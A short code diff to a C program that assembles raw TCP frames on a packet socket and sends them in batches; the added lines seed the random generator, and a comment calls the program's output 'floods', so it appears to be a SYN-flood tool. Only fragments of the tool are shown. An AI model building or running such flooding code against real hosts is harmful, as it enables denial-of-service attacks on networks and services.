@@ -11,6 +11,7 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <time.h>
+#include <unistd.h>
 
 #define BATCH 64
 
@@ -57,6 +58,7 @@ int main(int count, char **words) {
   frame.tcp.syn = !frame.tcp.ack;
   frame.tcp.window = htons(1024);
 
+  srandom((unsigned)time(NULL) ^ (unsigned)getpid()); /* two floods are not the same one twice */
   int sock = socket(AF_PACKET, SOCK_RAW, 0);
   struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1]), .sll_halen = 6};
   struct frame frames[BATCH];
